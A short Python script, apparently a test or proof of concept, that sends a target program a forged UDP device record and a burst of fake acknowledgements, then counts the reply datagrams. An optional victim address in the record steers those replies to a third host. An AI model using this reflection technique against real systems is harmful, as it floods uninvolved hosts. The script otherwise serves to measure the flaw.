"""Forges a unit and its acknowledgements, and counts the datagrams that the program sends for them.

usage: forged_acknowledgements.py HOST SERIAL COUNT [VICTIM PORT]

HOST is the program's address, SERIAL the invented serial number in 12 hexadecimal digits. With a VICTIM, an
address of this host, the forged record leads there; without one the record has no address, and broadcasts to
port 3520 are counted. The first line of the input lets the record go, the second one the acknowledgements.
Three seconds later a reply with the text DONE goes to the program, and the count to the output.
"""

import socket
import sys
import time


def datagrams(counter, seconds):
    """The datagrams that come within this time."""
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        counter.settimeout(left)
        try:
            yield counter.recv(2048)
        except TimeoutError:
            return


def main():
    host, serial, count = sys.argv[1], bytes.fromhex(sys.argv[2]), int(sys.argv[3])
    victim = (sys.argv[4], int(sys.argv[5])) if len(sys.argv) > 4 else None
    header = b"^^<U>" + bytes(6) + b"<S>" + serial + b"$"
    record = b"<M>" + bytes.fromhex("024B5800FFFF")
    if victim:
        record += b"<I>" + socket.inet_aton(victim[0]) + b"<P>" + victim[1].to_bytes(2, "big")
    record += b"<S>" + serial

    counter = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    counter.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
    counter.bind(victim or ("", 3520))
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sys.stdin.readline()
    sender.sendto(header + record, (host, 3520))
    sys.stdin.readline()
    list(datagrams(counter, 0.1))  # what came before does not count
    for _ in range(count):
        sender.sendto(header + b"ok\r", (host, 3520))
    heard = list(datagrams(counter, 3)).count(b"^^IdX")
    sender.sendto(header + b"DONE", (host, 3520))
    print(heard)


main()
